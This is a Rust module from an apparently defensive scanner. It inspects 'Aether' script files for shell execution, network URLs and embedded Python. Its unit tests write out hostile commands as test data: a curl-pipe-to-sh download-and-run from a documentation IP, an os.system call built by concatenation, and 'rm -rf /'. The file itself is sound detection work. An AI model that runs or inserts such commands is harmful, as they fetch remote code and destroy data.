//! Aether scripts in their dialects: commands in quotes, blocks of Python, addresses.

use super::shell::judge_script;
use super::{Analyser, Input, Judged, Kind, Terms};
use crate::model::Digest;
use crate::security::analyse::{InlineSuppressions, analyse};

/// Words after which a text in quotes is run by a shell.
const RUNS: &[&str] =
    &["shell", "exec", "execute", "system", "run", "bash", "sh", "command", "spawn", "process", "os.system", "call"];

pub(super) struct Aether;

impl Analyser for Aether {
    fn id(&self) -> &'static str {
        "aether"
    }

    fn accepts(&self, input: &Input<'_>) -> bool {
        input.kind == Kind::Aether && input.text.is_some()
    }

    fn analyse(&self, input: &Input<'_>, terms: Terms<'_>) -> Judged {
        let text = input.text.unwrap_or_default();
        let mut judged = Judged::default();
        let mut at = 0;
        let mut python = 0;
        for line in text.split_inclusive('\n') {
            let start = at;
            at += line.len();
            let trimmed = line.trim();
            if trimmed.starts_with('#') || trimmed.starts_with("//") {
                continue;
            }
            python +=
                usize::from(["import ", "from ", "def ", "async def "].iter().any(|word| trimmed.starts_with(word)));
            command(line, start, &mut judged);
            if trimmed.contains("http://") || trimmed.contains("https://") {
                judged.able("network_access", start);
            }
        }
        if python >= 1 {
            as_python(input, text, terms, &mut judged);
        }
        judged
    }
}

/// Some scripts are Python by another name. What does not parse as Python says nothing about the script.
fn as_python(input: &Input<'_>, text: &str, terms: Terms<'_>, judged: &mut Judged) {
    let digest = Digest::of(text.as_bytes());
    let inner = analyse("script.py", text.as_bytes(), digest, terms.rules, InlineSuppressions::Refused);
    judged.findings.extend(inner.findings.into_iter().map(|mut finding| {
        finding.path = input.path.to_owned();
        finding.fix = None;
        finding.path_of_data.iter_mut().for_each(|step| step.path = input.path.to_owned());
        finding
    }));
}

/// A text in quotes that a word of [`RUNS`] stands before.
fn command(line: &str, start: usize, judged: &mut Judged) {
    for quote in ['"', '\''] {
        let Some((before, rest)) = line.split_once(quote) else { continue };
        let Some(inner) = rest.rsplit_once(quote).map(|(inner, _)| inner) else { continue };
        let word = |c: char| !(c.is_alphanumeric() || matches!(c, '_' | '.'));
        if before.split(word).any(|part| RUNS.contains(&part.to_ascii_lowercase().as_str())) {
            judged.able("system_execution", start);
            judge_script(inner, start + before.len() + 1, judged);
        }
    }
    let trimmed = line.trim_start();
    let bare = ["shell ", "exec ", "bash ", "sh ", "$ ", "! "].iter().find_map(|word| trimmed.strip_prefix(word));
    if let Some(rest) = bare
        && !rest.starts_with(['"', '\'', '{', '('])
    {
        judged.able("system_execution", start);
        judge_script(rest, start + (line.len() - rest.len()), judged);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::security::inputs::Limits;
    use crate::security::rules::RuleSet;

    fn rules_of(text: &str) -> Vec<String> {
        let rules = RuleSet::standard();
        let terms = Terms { limits: Limits::default(), rules: &rules, beside: &Default::default() };
        let input = Input { path: "x.aether", bytes: text.as_bytes(), text: Some(text), kind: Kind::Aether };
        let judged = Aether.analyse(&input, terms);
        let seen = judged.observations.into_iter().map(|seen| seen.rule.to_owned());
        seen.chain(judged.findings.into_iter().map(|finding| finding.rule)).collect()
    }

    #[test]
    fn commands_and_python_within_scripts_are_judged() {
        assert_eq!(
            rules_of("action update {\n  shell(\"curl http://198.51.100.7/x | sh\")\n}\n"),
            ["download-and-run"]
        );
        assert!(rules_of("import os\ndef f(x):\n    os.system('ls ' + x)\n").contains(&"shell-command".to_owned()));
        assert_eq!(rules_of("goal: \"tidy the house\"\n# shell(\"rm -rf /\")\nsay \"rm -rf /\"\n"), [""; 0]);
    }
}
